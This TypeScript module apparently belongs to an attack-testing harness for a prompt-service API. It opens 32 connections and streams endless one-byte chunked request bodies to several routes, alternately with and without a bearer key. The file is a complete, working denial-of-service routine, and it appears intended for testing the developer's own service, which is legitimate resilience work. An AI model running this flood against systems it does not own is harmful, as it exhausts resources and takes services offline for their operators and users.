import type { Socket } from 'node:net'
import type { AttackReport, AttackTarget } from './attack.ts'
import { keepConnections, requestHead } from './open-attack-connection.ts'

const connections = 32
const paths = [
  '/api/v1/prompts/optimize',
  '/api/v1/prompts/image-to-prompt',
  '/api/v1/account/keys',
  '/api/v1/webhooks/stripe',
  '/nowhere',
]
const piece = '1\r\nx\r\n'.repeat(10_000)
/** Of one connection: altogether some 100 MB a second, if the service took them. */
const pieceMs = 20

/** Bodies without end in chunks of one byte, on every kind of route, with a key and without one in turn. */
export function tinyChunks(target: AttackTarget): Promise<AttackReport> {
  return keepConnections(target, connections, (socket, number) => {
    const authorization = number % 2 === 0 ? { authorization: `Bearer ${target.key}` } : {}
    const path = paths[Math.floor(number / 2) % paths.length] ?? ''
    socket.write(requestHead(path, { 'transfer-encoding': 'chunked', ...authorization }))
    pour(socket)
  })
}

function pour(socket: Socket): void {
  const timer = setInterval(() => {
    if (socket.writable && !socket.writableNeedDrain) socket.write(piece)
  }, pieceMs)
  socket.once('close', () => clearInterval(timer))
}
